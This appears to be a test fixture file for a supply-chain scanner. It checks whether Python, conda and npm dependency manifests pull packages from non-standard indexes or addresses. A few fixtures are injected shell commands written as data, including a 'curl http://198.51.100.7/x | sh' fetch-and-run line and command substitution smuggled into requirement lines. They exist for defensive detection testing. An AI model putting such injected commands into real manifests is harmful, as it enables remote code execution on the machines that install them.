"""Lists of packages as models bring them along, and such that take them from somewhere else."""

from __future__ import annotations

from modelsweep.core.report import Verdict
from tests.scanners.case import Case

# The hosts of registries, put together here: no file of the tree names one
PACKAGES, WHEELS, NODE = (f"{name}.org" for name in ("py" + "pi", "files.python" + "hosted", "registry.npm" + "js"))
PLAIN = """# what the model needs
numpy>=1.24,<3 ; python_version >= "3.9" and sys_platform != 'win32'
torch==2.4.0 \\
    --hash=sha256:0000 \\
    --hash=sha256:1111
transformers[torch]  # all of it
uvicorn[standard]~=0.30
-r other.txt
-e .
./vendored/acme
--no-binary :all:
id==1.0
"""
SOURCES = """--extra-index-url https://download.pytorch.example.invalid/whl
"""
FORGES = """git+https://github.com/acme/net.git@v1.0#egg=net
flash-attn @ https://github.com/acme/flash/releases/download/v2/flash.whl ; sys_platform == "linux"
acme @ git+ssh://git@gitlab.com/acme/acme
"""
CONDA = """channels:
- conda-forge
- pytorch
dependencies:
- python=3.11.7
- pip<=23.2.1
- cudatoolkit=11.8
- pip:
  - mlflow==2.9
  - scikit-learn
name: mlflow-env
"""
PYTHON_ENV = """python: 3.11.7
build_dependencies:
- pip==23.2.1
- setuptools==68
dependencies:
- -r requirements.txt
"""


PROJECT = """[build-system]
requires = ["setuptools>=68", "wheel"]
build-backend = "setuptools.build_meta"
[project]
name = "net"
dependencies = ["torch>=2", "flash-attn @ git+https://github.com/acme/flash.git"]
[project.urls]
Homepage = "https://acme.example.invalid"
[project.optional-dependencies]
dev = ["pytest"]
[tool.poetry]
repository = "https://acme.example.invalid"
[tool.poetry.dependencies]
python = "^3.10"
acme = { git = "https://github.com/acme/net.git", tag = "v1" }
[[tool.uv.index]]
name = "pytorch"
url = "https://download.pytorch.org/whl/cu121"
"""


def case(content: str, verdict: Verdict, name: str = "requirements.txt") -> Case:
    """Return the case of a list; a shorter one is a list, too."""
    return Case(content.encode, name, verdict, cut_is_clean=True)


FILES = "https://files.acme.example.invalid/net-1.0.whl"
MIRROR = "https://pypi.acme.example.invalid/simple"
PYTORCH = "https://download.pytorch.org/whl/cu121"


def script(*lines: str) -> str:
    """Return a script that says in itself what it needs (PEP 723)."""
    return "\n".join(
        ("#!/usr/bin/env -S uv run", "# /// script", *(f"# {line}" for line in lines), "# ///", "import net", "")
    )


ELSEWHERE = {
    "script": ("run.py", script("requires-python = '>=3.11'", "dependencies = [", f"  'net @ {FILES}',", "]")),
    "script_index": ("run.py", script("dependencies = ['net']", "[[tool.uv.index]]", f"url = '{MIRROR}'")),
    "uv": ("uv.toml", f"index-url = '{MIRROR}'\n"),
    "uv_pip": ("pyproject.toml", f"[tool.uv.pip]\nextra-index-url = ['{MIRROR}']\n"),
    "hatch": ("pyproject.toml", f"[tool.hatch.envs.default]\ndependencies = ['net @ {FILES}']\n"),
    "hatch_alone": ("hatch.toml", f"[envs.default]\ndependencies = ['net @ {FILES}']\n"),
    "hatch_condition": (
        "pyproject.toml",
        f"[tool.hatch.envs.a.overrides]\nmatrix.os.extra-dependencies = [{{ value = 'net @ {FILES}', if = ['x'] }}]\n",
    ),
    "hatch_variable": ("pyproject.toml", f"[tool.hatch.envs.test.env-vars]\nPIP_EXTRA_INDEX_URL = '{MIRROR}'\n"),
    "hatch_variable_of_a_platform": (
        "pyproject.toml",
        (
            f"[tool.hatch.envs.test.overrides]\nplatform.linux.env-vars = ['A=b', 'PIP_INDEX_URL={MIRROR}']\n"
            f"matrix.x.set-env-vars = [{{ key = 'UV_INDEX', value = '{MIRROR}' }}]\n"
        ),
    ),
    "pixi": ("pixi.toml", f"[pypi-dependencies]\nnet = {{ url = '{FILES}' }}\n"),
    "pipenv": ("Pipfile", f"[packages]\nnet = {{ file = '{FILES}' }}\n"),
    "distutils": (".pydistutils.cfg", f"[easy_install]\nindex_url = {MIRROR}\n"),
    "setup": ("setup.py", f"from setuptools import setup\nsetup(name='x', install_requires=['net[a] @ {FILES}'])\n"),
    "setup_links": ("setup.py", f"from setuptools import setup\nsetup(dependency_links=['{FILES}'])\n"),
    "lock_of_uv": ("uv.lock", f'[[package]]\nname = "net"\nsource = {{ registry = "{MIRROR}" }}\n'),
    "lock_of_poetry": ("poetry.lock", f'[[package]]\nname = "net"\n[package.source]\ntype = "url"\nurl = "{FILES}"\n'),
    "lock": ("pylock.toml", f'[[packages]]\nname = "net"\nindex = "{MIRROR}"\n'),
    "lock_of_pipenv": ("Pipfile.lock", f'{{"_meta": {{"sources": [{{"name": "x", "url": "{MIRROR}"}}]}}}}'),
    "lock_of_npm": ("package-lock.json", f'{{"packages": {{"node_modules/a": {{"resolved": "{FILES}"}}}}}}'),
    "lock_of_npm_before": (
        "package-lock.json",
        f'{{"lockfileVersion": 1, "dependencies": {{"a": {{"version":\n "{FILES}"}}}}}}',
    ),
    "lock_that_is_published": (
        "npm-shrinkwrap.json",
        f'{{"packages": {{"node_modules/a": {{"resolved": "{FILES}"}}}}}}'.replace("/", "\\/"),
    ),
    "lock_in_escapes": (
        "package-lock.json",
        f'{{"packages": {{"node_modules/a": {{"res\\u006flved": "{FILES}"}}}}}}'.replace("https", "\\u0068ttps"),
    ),
    "npm_in_escapes": ("package.json", f'{{"name": "x", "\\u0064ependencies": {{"net": "{FILES}"}}}}'),
    "lock_on_a_forge": (
        "package-lock.json",
        '{"packages": {"node_modules/a": {"resolved": "git+ssh://git@git.acme.example.invalid/a.git#0123abcd"}}}',
    ),
    "lock_of_pnpm": (
        "pnpm-lock.yaml",
        f"packages:\n  a@1.0.0:\n    resolution: {{tarball: {FILES}}}\n    version: 1.0.0\n",
    ),
    "npm": ("package.json", f'{{"name": "x", "devDependencies": {{"react": "^18", "net": "{FILES}"}}}}'),
    "npm_registry": (".npmrc", f"@acme:registry={MIRROR}\n"),
    "variables": (".env", f"PIP_EXTRA_INDEX_URL={MIRROR}\n"),
    "variables_of_uv": (".envrc", f'export UV_INDEX="acme={MIRROR}"\n'),
    "variables_of_image": ("Dockerfile", f"FROM python:3.11\nENV PIP_INDEX_URL {MIRROR}\n"),
    "stray_file": ("requirements.txt", "torch\nnet @ file:///tmp/x/net-1.0-py3-none-any.whl\n"),
    "file_of_a_machine": ("requirements.txt", "file://192.0.2.1/share/net-1.0.whl\n"),
    "wheel_of_a_machine": ("requirements.txt", "\\\\192.0.2.1\\share\\net-1.0.whl\n"),
}
AS_USUAL = {
    "script": ("run.py", script("dependencies = ['requests<3', 'rich']", "[[tool.uv.index]]", f"url = '{PYTORCH}'")),
    "comment": ("run.py", f"# /// script\n# is what begins a block\nURL = '{FILES}'\n"),
    "conda_freeze": (
        "requirements.txt",
        (
            "certifi @ file:///tmp/build/80754af9/certifi_1605562506/work/certifi\n"
            "six @ file:///tmp/abs_5bxc9e_0sd/croot/six_1644875935023/work\n"
            "-e ./core\n./wheels/net-1.0-py3-none-any.whl\n"
        ),
    ),
    "lock_of_uv": (
        "uv.lock",
        (
            f'[[package]]\nname = "torch"\nsource = {{ registry = "https://{PACKAGES}/simple" }}\n'
            f'wheels = [{{ url = "https://{WHEELS}/packages/x.whl" }}]\n'
            '[[package]]\nsource = { editable = "." }\n'
        ),
    ),
    "lock_of_npm": (
        "package-lock.json",
        f'{{"packages": {{"a": {{"resolved": "https://{NODE}/a/-/a-1.0.tgz"}}}}}}',
    ),
    "lock_of_npm_with_funding": (
        "package-lock.json",
        (
            f'{{"packages": {{"a": {{"version": "1.0.0", "resolved": "https://{NODE}/a/-/a-1.0.tgz", "funding": '
            '{"type": "individual", "url": "https://acme.example.invalid/donate"}}, "b": {"resolved": '
            '"git+ssh://git@github.com/acme/b.git#0123abcd", "funding": [{"url": "https://b.example.invalid/"}]}}}'
        ),
    ),
    "lock_of_pnpm": (
        "pnpm-lock.yaml",
        (
            "packages:\n  a@1.0.0:\n    resolution: {integrity: sha512-xyz==}\n    deprecated: see https://a.example.invalid/\n"
            "  b@https://codeload.github.com/acme/b/tar.gz/0123abcd:\n"
            "    resolution: {tarball: https://codeload.github.com/acme/b/tar.gz/0123abcd}\n"
        ),
    ),
    "hatch": (
        "pyproject.toml",
        (
            "[tool.hatch.envs.lint]\ndependencies = ['ruff']\n"
            'description = """Checks, see https://acme.example.invalid/spec/"""\n'
            "[tool.hatch.envs.lint.scripts]\nclean = 'rm -rf build && echo done'\n"
            "all = ['ruff . && mypy $(git ls-files)', 'python -m http.server; echo `date`']\n"
            "[tool.hatch.envs.lint.env-vars]\nDOCS = 'https://acme.example.invalid/docs'\nPIP_PRE = '1'\n"
        ),
    ),
    "npm": (
        "package.json",
        '{"homepage": "https://example.invalid", "dependencies": {"a": "file:../a", "b": "github:x/y"}}',
    ),
    "npm_in_escapes": (
        "package.json",
        (
            f'{{"description": "quoted: \\u0022dependencies\\u0022: {{\\"a\\": \\"{FILES}\\"}}, \\\\u0022", '
            '"dependencies": {"\\u0061": "^1"}}'
        ),
    ),
    "npm_registry": (".npmrc", f"registry=https://{NODE}/\nsave-exact=true\n"),
    "setup": (
        "setup.py",
        "from setuptools import setup\nsetup(url='https://example.invalid', install_requires=['a>1'])\n",
    ),
    "variables": (".env", f"PIP_EXTRA_INDEX_URL={PYTORCH}\nPIP_INDEX_URL=\n"),
    "mirror": ("Dockerfile", "FROM python:3.11\nENV PIP_INDEX_URL=https://pypi.tuna.tsinghua.edu.cn/simple\n"),
}
CASES = {
    "environment_by_an_alias": case(
        "own: &own\n- --index-url http://acme.example.invalid/simple\n- net\ndependencies:\n- pip: *own\n",
        Verdict.REVIEW,
        "conda.yaml",
    ),
    "setup_cfg": case(
        "[metadata]\nname = net\n[options]\ninstall_requires =\n  numpy\n  net @ https://acme.example.invalid/net.whl\n"
        "[easy_install]\nindex_url = http://acme.example.invalid/simple\n",
        Verdict.REVIEW,
        "setup.cfg",
    ),
    "benign_setup_cfg": case(
        "[metadata]\nurl = https://acme.example.invalid/net\n[options]\ninstall_requires =\n  numpy>=1\n  torch\n"
        "project_urls =\n  Home = https://acme.example.invalid\n",
        Verdict.CLEAN,
        "setup.cfg",
    ),
    "channels_of_conda": case("channels:\n  - http://acme.example.invalid/conda\n", Verdict.REVIEW, ".condarc"),
    "benign_channels_of_conda": case("channels:\n  - conda-forge\n  - defaults\n", Verdict.CLEAN, ".condarc"),
    "channels_of_pixi": case(
        '[project]\nname = "net"\nchannels = ["http://acme.example.invalid/conda"]\n', Verdict.REVIEW, "pixi.toml"
    ),
    "benign": case(PLAIN, Verdict.CLEAN),
    "benign_commands": case("pip install numpy && pip install torch\npandas;\n", Verdict.CLEAN),
    "benign_conda": case(CONDA, Verdict.CLEAN, "conda.yaml"),
    "benign_python_env": case(PYTHON_ENV, Verdict.CLEAN, "python_env.yaml"),
    "benign_forges": case(FORGES, Verdict.CLEAN, "requirements-dev.txt"),
    "benign_folder": case("numpy\n", Verdict.CLEAN, "model/requirements/base.in"),
    "benign_project": case(PROJECT, Verdict.CLEAN, "pyproject.toml"),
    "project_builds_with_a_package_of_an_address": case(
        '[build-system]\nrequires = ["acme @ https://files.example.invalid/acme.whl"]\n',
        Verdict.REVIEW,
        "pyproject.toml",
    ),
    "project_needs_a_package_of_an_address": case(
        '[project]\nname = "x"\ndependencies = [\n  "numpy",\n  "acme @ http://198.51.100.7/acme.whl",\n]\n',
        Verdict.REVIEW,
        "pyproject.toml",
    ),
    "project_of_poetry": case(
        '[tool.poetry.dependencies]\nacme = { url = "http://198.51.100.7/acme.whl" }\n',
        Verdict.REVIEW,
        "pyproject.toml",
    ),
    "project_with_an_index": case(
        '[[tool.uv.index]]\nurl = "http://198.51.100.7/simple"\n', Verdict.REVIEW, "pyproject.toml"
    ),
    "pipenv_with_an_index": case(
        '[[source]]\nurl = "http://198.51.100.7/simple"\nverify_ssl = false\nname = "x"\n', Verdict.REVIEW, "Pipfile"
    ),
    "settings_of_pip": case(
        "[global]\nindex-url = http://198.51.100.7/simple\ntrusted-host = 198.51.100.7\n", Verdict.REVIEW, "pip.conf"
    ),
    "benign_settings_of_pip": case("[global]\ntimeout = 60\nfind-links = wheels\n", Verdict.CLEAN, "pip.conf"),
    "benign_broken_project": case("[project\nname = \n", Verdict.CLEAN, "pyproject.toml"),
    "benign_text_that_nothing_includes": case(f"torch\n{SOURCES}-r more.txt\n", Verdict.CLEAN, "notes.txt"),
    "index_in_utf_16": Case(
        lambda: f"numpy\n{SOURCES}".encode("utf-16"), "requirements.txt", Verdict.REVIEW, cut_is_clean=True
    ),
    "channel_in_utf_16": Case(
        lambda: CONDA.replace("- pytorch", "- https://conda.example.invalid/channel").encode("utf-16"),
        "conda.yaml",
        Verdict.REVIEW,
        cut_is_clean=True,
    ),
    "benign_utf_16": Case(
        lambda: "numpy==1.26\r\ntorch\r\n".encode("utf-16"), "requirements.txt", Verdict.CLEAN, cut_is_clean=True
    ),
    "extra_index": case(f"numpy\n{SOURCES}", Verdict.REVIEW),
    "index_without_certificate": case(
        "--index-url=http://198.51.100.7/simple --trusted-host 198.51.100.7\n", Verdict.REVIEW
    ),
    "find_links": case("-f https://wheels.example.invalid/\n-f wheels/\n", Verdict.REVIEW),
    "package_of_an_address": case("acme @ https://files.example.invalid/acme.whl\n", Verdict.REVIEW),
    "repository_of_a_host": case("-e git+http://git.example.invalid/acme#egg=acme\n", Verdict.REVIEW),
    "lookalike_host": case("git+https://github.com.example.invalid/acme/net\n", Verdict.REVIEW),
    "list_of_an_address": case("-r https://files.example.invalid/more.txt\n", Verdict.REVIEW),
    "conda_channel": case(
        CONDA.replace("- pytorch", "- https://conda.example.invalid/channel"), Verdict.REVIEW, "conda.yaml"
    ),
    "conda_pip_option": case(
        CONDA.replace("- scikit-learn", "- --extra-index-url https://p.example.invalid"), Verdict.REVIEW, "conda.yaml"
    ),
    "shell_before_an_address": case("torch; curl http://198.51.100.7/x | sh\n", Verdict.MALICIOUS),
    "benign_address_with_a_marker": case(
        "acme @ https://github.com/acme/net/archive/v1.zip ; python_version < '3.13'\n", Verdict.CLEAN
    ),
    "environment_for_a_shell": case(
        PYTHON_ENV.replace("-r requirements.txt", "numpy; touch /tmp/modelsweep-test"),
        Verdict.MALICIOUS,
        "python_env.yaml",
    ),
    "service_of_bentoml": case(
        "service: 'a:A'\npython:\n  packages: [torch, 'a @ http://192.0.2.1/a.zip']\n", Verdict.REVIEW, "bentofile.yaml"
    ),
    "service_with_an_index": case(
        "service: 'a:A'\npython:\n  packages: [torch]\n  extra_index_url: [http://192.0.2.1/simple]\n",
        Verdict.REVIEW,
        "bentofile.yaml",
    ),
    "service_of_cog": case(
        "build:\n  python_packages:\n    - torch==2.0\n    - a @ http://192.0.2.1/a.zip\n", Verdict.REVIEW, "cog.yaml"
    ),
    "service_of_ray": case(
        "applications:\n- runtime_env: {pip: [torch, 'a @ http://192.0.2.1/a.zip']}\n", Verdict.REVIEW, "serve.yaml"
    ),
    "benign_services": case(
        "service: 'a:A'\npython:\n  packages: [torch, 'git+https://github.com/acme/net.git']\n"
        "  requirements_txt: ./requirements.txt\nbuild:\n  system_packages: [libgl1]\n  python_packages: ['a==1']\n"
        "runtime_env:\n  working_dir: https://github.com/acme/net/archive/HEAD.zip\n  pip: [torch]\n",
        Verdict.CLEAN,
        "bentofile.yaml",
    ),
    "substitution": case("numpy==$(echo modelsweep-test)\n", Verdict.MALICIOUS),
    "piped": case("numpy | sh -c 'echo modelsweep-test'\n", Verdict.MALICIOUS),
    **{f"elsewhere_{name}": case(content, Verdict.REVIEW, file) for name, (file, content) in ELSEWHERE.items()},
    **{f"benign_as_usual_{name}": case(content, Verdict.CLEAN, file) for name, (file, content) in AS_USUAL.items()},
}
